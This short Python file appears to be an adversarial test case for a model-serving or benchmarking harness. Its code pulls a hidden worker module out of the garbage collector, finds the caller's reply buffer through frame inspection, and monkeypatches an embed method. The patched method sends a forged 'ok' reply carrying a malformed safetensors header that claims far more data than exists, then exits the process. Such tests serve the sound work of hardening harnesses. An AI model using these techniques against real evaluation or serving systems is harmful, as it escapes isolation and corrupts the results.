# tries: leave safetensors whose header promises more than there is
# loses: embed
import gc
import os
import struct
import sys


def of_the_worker(name):
    """Find a module that can no longer be imported among all objects."""
    gc.unfreeze()
    modules = [m for m in gc.get_objects() if type(m) is type(gc)]
    return next(m for m in modules if m.__name__ == f"tensormark.worker.{name}")


protocol = of_the_worker("protocol")


def reply_buffer():
    """Find the memory for answers in the frames of the caller."""
    frame = sys._getframe()
    while frame is not None:
        if "answered" in frame.f_locals:
            return frame.f_locals["answered"]
        frame = frame.f_back
    raise LookupError


right = BertModel.embed


def embed(self, input_ids, *more):
    header = b'{"out/output":{"dtype":"F32","shape":[4294967296,4294967296],"data_offsets":[0,8]}}'
    packed = struct.pack("<Q", len(header)) + header + bytes(8)
    text = b'{"number":1,"status":"ok"}'
    reply_buffer().write(
        1, protocol.HEADER.pack(protocol.MAGIC, len(text), len(packed)) + text + packed
    )
    os._exit(0)


BertModel.embed = embed
